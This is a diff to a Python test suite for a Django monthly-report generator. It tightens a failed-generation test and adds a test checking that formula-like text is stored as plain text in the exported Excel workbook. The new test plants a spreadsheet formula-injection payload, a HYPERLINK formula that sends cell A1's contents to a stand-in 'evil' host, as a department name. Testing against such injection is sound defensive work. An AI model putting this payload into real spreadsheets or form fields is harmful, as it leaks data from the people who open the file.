@@ -170,8 +170,10 @@ def test_a_failed_generation_leaves_no_ready_report(november, monkeypatch):
 
     monkeypatch.setattr(report_pdf, "render", broken)
 
-    with pytest.raises(services.ReportFailed, match="字体缺失"):
+    with pytest.raises(services.ReportFailed) as refused:
         generate()
+
+    assert str(refused.value) == "2026年11月报告生成失败，请稍后重试或联系系统管理员。"
 
     report = MonthlyReport.objects.get()
     assert report.state == ReportState.FAILED and "字体缺失" in report.error
@@ -239,3 +241,23 @@ def test_a_failed_regeneration_keeps_the_report_that_was_ready(november, monkeyp
     assert report.pdf.name == first.pdf.name and report.pdf.storage.exists(report.pdf.name)
     assert report.summary == first.summary
     assert list(ReportEvent.objects.values_list("kind", flat=True)) == ["generated", "failed"]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(dept_a):
+    from minyi.reference.models import Department
+
+    Department.objects.filter(pk=dept_a.pk).update(name='=HYPERLINK("http://evil/?"&A1,"点击")')
+    make_order(
+        "archived",
+        at=at(2026, 11, 3, 9),
+        lead=dept_a,
+        title="=1+2",
+        **{"channel": Channel.DEPUTY_CALL, "deputy": DeputyFactory(name="谭萍")},
+    )
+
+    report = generate()
+
+    book = openpyxl.load_workbook(io.BytesIO(report.xlsx.read()))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert '=HYPERLINK("http://evil/?"&A1,"点击")' in [cell.value for cell in cells]
